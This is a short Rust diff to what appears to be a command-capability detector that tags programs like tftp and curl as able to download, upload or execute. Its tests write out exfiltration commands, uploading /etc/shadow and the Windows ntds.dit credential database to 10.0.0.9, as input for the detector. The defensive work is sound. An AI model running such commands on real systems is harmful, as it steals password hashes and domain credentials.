@@ -211,7 +211,6 @@ const PROGRAMS: &[(&str, &[Capability])] = &[
     ("dnscmd", &[Execute]),
     ("finger", &[Download]),
     ("tftp", &[Download, Upload]),
-    ("curl.exe", &[Download, Upload]),
 ];
 
 static SPAWNS_SHELL: LazyLock<Regex> = LazyLock::new(|| {
@@ -357,6 +356,14 @@ mod tests {
         assert!(
             caps("curl -T /etc/shadow http://10.0.0.9/up", Shell::Sh)
                 .contains(&("curl".to_string(), Upload))
+        );
+        // Windows's own curl is curl.
+        assert!(
+            caps(
+                r"curl.exe -T C:\\Windows\\NTDS\\ntds.dit ftp://10.0.0.9/",
+                Shell::Cmd
+            )
+            .contains(&("curl".to_string(), Upload))
         );
         assert!(caps("cat /etc/shadow", Shell::Sh).contains(&("cat".to_string(), FileRead)));
         assert!(
